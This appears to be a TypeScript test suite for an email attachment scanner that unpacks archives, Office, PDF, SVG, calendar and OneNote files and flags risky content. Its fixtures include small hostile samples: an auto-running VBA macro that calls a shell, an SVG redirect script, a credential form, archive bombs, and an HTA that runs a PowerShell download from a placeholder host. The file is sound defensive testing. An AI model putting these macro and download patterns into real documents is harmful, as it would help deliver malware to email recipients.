import { describe, expect, it } from 'vitest';
import { explodeAttachments } from '../../../src/message/attachments/index.js';
import { MAX_FILES } from '../../../src/message/attachments/limits.js';
import type { Attachment } from '../../../src/types.js';
import { buildMsg, u } from '../input/msg-builder.js';
import {
  makeDocx,
  makePdf,
  makeTar,
  makeVbaOle,
  makeZip,
  markZipEncrypted,
  part,
  qrPng,
  rels,
  tinyExe,
} from './helpers.js';

const byId = (atts: Attachment[], id: string) => atts.find((a) => a.id === id)!;
const codes = (a: Attachment) => a.observations.map((o) => o.code);

describe('explodeAttachments', () => {
  it('hashes every file and records true and declared types', async () => {
    const r = await explodeAttachments([part('hello.txt', 'hello', 'text/plain')]);
    expect(r.attachments).toHaveLength(1);
    expect(r.attachments[0]).toMatchObject({
      id: 'att:1',
      filename: 'hello.txt',
      declaredType: 'text/plain',
      size: 5,
      depth: 0,
      path: 'hello.txt',
      sha256: '2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824',
      md5: '5d41402abc4b2a76b9719d911017c592',
      observations: [],
    });
    expect(r.attachments[0].detectedType).toBeUndefined();
  });

  it('explodes nested archives into a flat list linked by parentId, with readable paths', async () => {
    const inner = await makeZip([{ name: 'invoice.pdf.exe', data: tinyExe() }]);
    const outer = await makeZip([
      { name: 'docs/', data: '' },
      { name: 'docs/inner.zip', data: inner },
      { name: 'note.txt', data: 'pay at https://pay.example/x' },
    ]);
    const r = await explodeAttachments([part('files.zip', outer)], { idPrefix: 'm1:att:' });
    expect(r.attachments.map((a) => [a.id, a.parentId, a.depth, a.path])).toEqual([
      ['m1:att:1', undefined, 0, 'files.zip'],
      ['m1:att:1/2', 'm1:att:1', 1, 'files.zip › docs/inner.zip'],
      ['m1:att:1/2/1', 'm1:att:1/2', 2, 'files.zip › docs/inner.zip › invoice.pdf.exe'],
      ['m1:att:1/3', 'm1:att:1', 1, 'files.zip › note.txt'],
    ]);
    const outerAtt = byId(r.attachments, 'm1:att:1');
    expect(outerAtt.archive?.entries.map((e) => e.name)).toEqual(['docs/', 'docs/inner.zip', 'note.txt']);
    expect(codes(outerAtt)).toEqual(['nested-archive']);
    expect(codes(byId(r.attachments, 'm1:att:1/2'))).toEqual(['archive-risky-member']);
    expect(codes(byId(r.attachments, 'm1:att:1/2/1'))).toEqual([
      'risky-extension',
      'double-extension',
      'executable-content',
    ]);
    expect(r.links).toEqual([
      {
        raw: 'https://pay.example/x',
        source: 'attachment-text',
        location: 'attachment files.zip › note.txt',
      },
    ]);
  });

  it('gives members with the same name distinct ids (a zip may repeat names to fool extractors)', async () => {
    const zip = await makeZip([
      { name: 'invoice.pdf', data: '%PDF-1.4 harmless' },
      { name: 'invoice.pdf', data: tinyExe() },
    ]);
    const r = await explodeAttachments([part('a.zip', zip)]);
    expect(r.attachments.map((a) => a.id)).toEqual(['att:1', 'att:1/1', 'att:1/2']);
    expect(codes(r.attachments[2])).toEqual(['type-mismatch', 'executable-content']);
  });

  it('lists an encrypted archive and names the risky file it hides', async () => {
    const zip = markZipEncrypted(await makeZip([{ name: 'Payment_Details.js', data: 'x' }]));
    const r = await explodeAttachments([part('Payment.zip', zip, 'application/zip')]);
    expect(r.attachments).toHaveLength(1);
    expect(r.attachments[0].archive).toMatchObject({ encrypted: true, truncated: false });
    expect(codes(r.attachments[0])).toEqual(['encrypted-archive', 'archive-risky-member']);
  });

  it('flags archives it cannot open by magic bytes', async () => {
    const rar = Buffer.concat([Buffer.from('Rar!\u001a\u0007\u0001\u0000', 'latin1'), Buffer.alloc(64)]);
    const sevenZ = Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(64)]);
    const r = await explodeAttachments([part('a.rar', rar), part('b.7z', sevenZ)]);
    expect(r.attachments.map((a) => [a.detectedType?.ext, codes(a)])).toEqual([
      ['rar', ['archive-unlistable']],
      ['7z', ['archive-unlistable']],
    ]);
  });

  it('reads macros in a Word 97 document and in a docm, and Office links', async () => {
    const doc = makeVbaOle({ Module1: 'Sub AutoOpen()\r\nShell "cmd /c calc"\r\nEnd Sub\r\n' });
    const docm = await makeDocx([
      {
        name: 'word/vbaProject.bin',
        data: makeVbaOle({ ThisDocument: 'Sub Document_Open()\r\nEnd Sub' }, 'VBA/'),
      },
      {
        name: 'word/_rels/document.xml.rels',
        data: rels([{ id: 'r1', type: 'hyperlink', target: 'https://doc.example/', external: true }]),
      },
    ]);
    const r = await explodeAttachments([part('old.doc', doc), part('new.docm', docm)]);
    expect(codes(r.attachments[0])).toEqual(['vba-macro', 'macro-autoexec', 'macro-suspicious-calls']);
    expect(codes(r.attachments[1])).toEqual(['risky-extension', 'vba-macro', 'macro-autoexec']);
    // An Office document is not an archive: its parts are not listed as attachments.
    expect(r.attachments).toHaveLength(2);
    expect(r.attachments[1].archive).toBeUndefined();
    expect(r.links).toEqual([
      { raw: 'https://doc.example/', source: 'attachment-office', location: 'attachment new.docm' },
    ]);
  });

  it('explodes files embedded in Office documents', async () => {
    const docx = await makeDocx([{ name: 'word/embeddings/oleObject1.bin', data: tinyExe() }]);
    const r = await explodeAttachments([part('letter.docx', docx)]);
    expect(r.attachments.map((a) => a.path)).toEqual([
      'letter.docx',
      'letter.docx › word/embeddings/oleObject1.bin',
    ]);
    expect(codes(r.attachments[1])).toContain('executable-content');
  });

  it('reads PDFs, HTML pages and QR codes into links with their sources', async () => {
    const pdf = makePdf(['<< /Type /Catalog /OpenAction << /S /URI /URI (https://pdf.example/) >> >>']);
    const page = '<form action="https://form.example/"><input type="password"></form>';
    const r = await explodeAttachments([
      part('doc.pdf', pdf),
      part('secure-message.htm', page, 'text/html'),
      part(undefined, await qrPng('https://qr.example/'), 'image/png'),
    ]);
    expect(r.links.map((l) => [l.source, l.raw, l.location])).toEqual([
      ['attachment-pdf', 'https://pdf.example/', 'attachment doc.pdf'],
      ['attachment-html', 'https://form.example/', 'attachment secure-message.htm'],
      ['qr-code', 'https://qr.example/', 'attachment attachment 3'],
    ]);
    expect(codes(r.attachments[1])).toEqual(['html-credential-form']);
    expect(codes(r.attachments[2])).toEqual(['qr-code']);
  });

  it('hands forwarded messages back to be parsed, also from inside archives', async () => {
    const eml = 'From: boss@example.com\r\nSubject: fwd\r\n\r\nHello\r\n';
    const zip = await makeZip([{ name: 'original.eml', data: eml }]);
    const r = await explodeAttachments([part('fwd.eml', eml, 'message/rfc822'), part('mails.zip', zip)]);
    expect(r.messages.map((m) => [m.attachmentId, Buffer.from(m.raw).toString()])).toEqual([
      ['att:1', eml],
      ['att:2/1', eml],
    ]);
  });

  it('reads SVG images as the web pages they can be (script and all)', async () => {
    const svg =
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href = "https://svg-lure.example/" + atob("eA==")</script></svg>';
    const r = await explodeAttachments([part('Voicemail.svg', svg, 'image/svg+xml')]);
    expect(codes(r.attachments[0])).toEqual(['html-redirect']);
    expect(r.links.map((l) => [l.raw, l.source])).toEqual([['https://svg-lure.example/', 'attachment-html']]);
  });

  it('reads links in calendar invitations', async () => {
    const ics =
      'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Payroll update\r\nDESCRIPTION:Confirm at https://payroll-update.example/confirm\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n';
    const r = await explodeAttachments([part('invite.ics', ics, 'text/calendar')]);
    expect(r.attachments[0].detectedType?.ext).toBe('ics');
    expect(r.links.map((l) => [l.raw, l.source])).toEqual([
      ['https://payroll-update.example/confirm', 'attachment-text'],
    ]);
  });

  it('hands Outlook items (.msg) attached to the mail back as messages', async () => {
    const msg = buildMsg({ props: { 55: u('Original subject'), 4096: u('Pay here https://msg.example/') } });
    const r = await explodeAttachments([part('Fwd.msg', msg, 'application/vnd.ms-outlook')]);
    expect(r.messages).toHaveLength(1);
    expect(Buffer.from(r.messages[0].raw).toString()).toMatch(/Subject: Original subject/);
    expect(r.attachments[0].observations).toEqual([]);
  });

  it('reads the target of an Internet shortcut', async () => {
    const r = await explodeAttachments([
      part('Invoice.url', '[InternetShortcut]\r\nURL=file://203.0.113.5/share/a.exe\r\n'),
    ]);
    expect(codes(r.attachments[0])).toEqual(['risky-extension', 'internet-shortcut']);
    expect(r.attachments[0].observations[1].evidence).toEqual({
      target: 'file://203.0.113.5/share/a.exe',
      remoteFile: true,
    });
    expect(r.links.map((l) => l.raw)).toEqual(['file://203.0.113.5/share/a.exe']);
  });

  it('unpacks gzip and lists tar, down to the files inside', async () => {
    const { gzipSync } = await import('node:zlib');
    const tar = makeTar([
      { name: 'logs/', data: '' },
      { name: 'logs/Xorg.0.log', data: 'see https://log.example/' },
      { name: 'run.sh.exe', data: tinyExe() },
    ]);
    const r = await explodeAttachments([
      part('logs.tgz', gzipSync(tar)),
      part('plain.txt.gz', gzipSync('hello')),
    ]);
    expect(r.attachments.map((a) => [a.id, a.path])).toEqual([
      ['att:1', 'logs.tgz'],
      ['att:1/1', 'logs.tgz › logs.tar'],
      ['att:1/1/2', 'logs.tgz › logs.tar › logs/Xorg.0.log'],
      ['att:1/1/3', 'logs.tgz › logs.tar › run.sh.exe'],
      ['att:2', 'plain.txt.gz'],
      ['att:2/1', 'plain.txt.gz › plain.txt'],
    ]);
    expect(r.attachments[1].archive?.entries.map((e) => e.name)).toEqual([
      'logs/',
      'logs/Xorg.0.log',
      'run.sh.exe',
    ]);
    expect(codes(r.attachments[1])).toEqual(['archive-risky-member']);
    expect(codes(r.attachments[3])).toContain('executable-content');
    expect(r.links.map((l) => l.raw)).toEqual(['https://log.example/']);
    expect(r.problems).toEqual([]);
  });

  it('stops a gzip bomb at the byte budget', async () => {
    const { gzipSync } = await import('node:zlib');
    const bomb = gzipSync(Buffer.alloc(5_000_000));
    const r = await explodeAttachments([part('x.gz', bomb)], { maxTotalBytes: 1_000_000 });
    expect(r.attachments).toHaveLength(1);
    expect(codes(r.attachments[0])).toEqual(['archive-bomb']);
  });

  it('recognises a disk image by content even under a harmless name', async () => {
    const iso = Buffer.alloc(0x9000);
    iso.write('CD001', 0x8001, 'latin1');
    const r = await explodeAttachments([part('scan.pdf', iso, 'application/pdf')]);
    expect(codes(r.attachments[0])).toEqual(['type-mismatch', 'risky-content']);
  });

  it('survives parts without content and bad options', async () => {
    const r = await explodeAttachments(
      [{ content: undefined as unknown as Uint8Array }, part('a.txt', 'x')],
      { maxDepth: Number.NaN, maxTotalBytes: -5, idPrefix: 7 as unknown as string },
    );
    expect(r.problems).toEqual(['attachment 1 has no content']);
    expect(r.attachments.map((a) => a.id)).toEqual(['att:2']);
  });
});

describe('limits against hostile attachments', () => {
  it('stops at the nesting depth (archive-in-archive bomb) and says so', async () => {
    let zip = await makeZip([{ name: 'payload.exe', data: tinyExe() }]);
    for (let i = 0; i < 10; i++) zip = await makeZip([{ name: `layer${i}.zip`, data: zip }]);
    const r = await explodeAttachments([part('bomb.zip', zip)], { maxDepth: 3 });
    expect(Math.max(...r.attachments.map((a) => a.depth))).toBe(3);
    expect(r.attachments).toHaveLength(4);
    expect(codes(r.attachments[3])).toContain('nesting-too-deep');
    expect(r.problems.join('\n')).toMatch(/nested more than 3 levels/);
  });

  it('a caller cannot raise the depth limit above the default', async () => {
    let zip = await makeZip([{ name: 'x.txt', data: 'x' }]);
    for (let i = 0; i < 12; i++) zip = await makeZip([{ name: `l${i}.zip`, data: zip }]);
    const r = await explodeAttachments([part('deep.zip', zip)], { maxDepth: 1000 });
    expect(Math.max(...r.attachments.map((a) => a.depth))).toBe(6);
  });

  it('stops unpacking at the total byte budget (many members that each fit)', async () => {
    const member = Buffer.alloc(300_000, 0x41).map((_, i) => 65 + (i % 26));
    const zip = await makeZip(Array.from({ length: 10 }, (_, i) => ({ name: `part${i}.txt`, data: member })));
    const r = await explodeAttachments([part('big.zip', zip)], { maxTotalBytes: 1_000_000 });
    expect(r.attachments.length).toBe(1 + 3);
    expect(r.problems.join('\n')).toMatch(/not unpacked: too large for what is left/);
  });

  it('refuses a zip bomb without inflating it', async () => {
    const zip = await makeZip([{ name: 'zeros.txt', data: Buffer.alloc(20 * 1024 * 1024) }]);
    expect(zip.length).toBeLessThan(100_000);
    const r = await explodeAttachments([part('bomb.zip', zip)]);
    expect(r.attachments).toHaveLength(1);
    expect(codes(r.attachments[0])).toContain('archive-bomb');
  });

  it('caps the files produced per message (fan-out)', async () => {
    const inner = await makeZip(Array.from({ length: 90 }, (_, i) => ({ name: `f${i}.txt`, data: `${i}` })));
    const outer = await makeZip(Array.from({ length: 8 }, (_, i) => ({ name: `z${i}.zip`, data: inner })));
    const r = await explodeAttachments([part('fan.zip', outer)]);
    expect(r.attachments.length).toBe(MAX_FILES);
    expect(r.problems.join('\n')).toMatch(/more than 500 files/);
  });

  it('caps the pixels decoded for QR codes per message', async () => {
    const { PNG } = await import('pngjs');
    // 12 blank 1000×1000 images: 12 MP in all, over the 8 MP per message.
    const blank = new PNG({ width: 1000, height: 1000 });
    blank.data.fill(255);
    const png = PNG.sync.write(blank);
    const r = await explodeAttachments(Array.from({ length: 12 }, (_, i) => part(`p${i}.png`, png)));
    expect(r.problems.filter((p) => /too many large images/.test(p))).toHaveLength(4);
  });

  it('lists at most MAX_ARCHIVE_ENTRIES entries of a huge archive', async () => {
    const zip = await makeZip(Array.from({ length: 1100 }, (_, i) => ({ name: `d${i}/`, data: '' })));
    const r = await explodeAttachments([part('many.zip', zip)]);
    expect(r.attachments[0].archive?.entries).toHaveLength(1000);
    expect(r.attachments[0].archive?.truncated).toBe(true);
    expect(codes(r.attachments[0])).toContain('archive-truncated');
  });
});

describe('OneNote sections', () => {
  /** A OneNote section: file magic, then a FileDataStoreObject holding `payload`. */
  function makeOne(payload: Uint8Array): Buffer {
    const magic = Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex');
    const header = Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex');
    const length = Buffer.alloc(8);
    length.writeBigUInt64LE(BigInt(payload.length));
    const footer = Buffer.from('22a7fb71794f0b4fbb13899256426b24', 'hex');
    return Buffer.concat([
      magic,
      Buffer.alloc(200),
      header,
      length,
      Buffer.alloc(12),
      payload,
      footer,
      Buffer.alloc(64),
    ]);
  }

  it('takes out the files embedded in a OneNote section and explodes them', async () => {
    const hta =
      '<html><script>new ActiveXObject("WScript.Shell").Run("powershell -c iwr https://one.example/p")</script></html>';
    const r = await explodeAttachments([part('Invoice.one', makeOne(Buffer.from(hta)))]);
    expect(r.attachments.map((a) => [a.id, a.path, a.detectedType?.ext])).toEqual([
      ['att:1', 'Invoice.one', 'one'],
      ['att:1/1', 'Invoice.one › embedded file 1', 'html'],
    ]);
    expect(codes(r.attachments[0])).toEqual(['risky-extension', 'risky-content', 'onenote-embedded-file']);
    expect(codes(r.attachments[1])).toEqual(['html-runs-programs']);
    expect(r.attachments[1].observations[0].evidence).toEqual({
      calls: ['ActiveXObject', 'WScript.Shell', 'powershell'],
    });
    expect(r.links.map((l) => l.raw)).toEqual(['https://one.example/p']);
  });

  it('ignores a FileDataStoreObject whose length runs past the end', async () => {
    const one = makeOne(tinyExe());
    one.writeBigUInt64LE(BigInt(10 ** 12), 16 + 200 + 16);
    const r = await explodeAttachments([part('x.one', one)]);
    expect(r.attachments).toHaveLength(1);
    expect(r.problems).toEqual([]);
  });
});
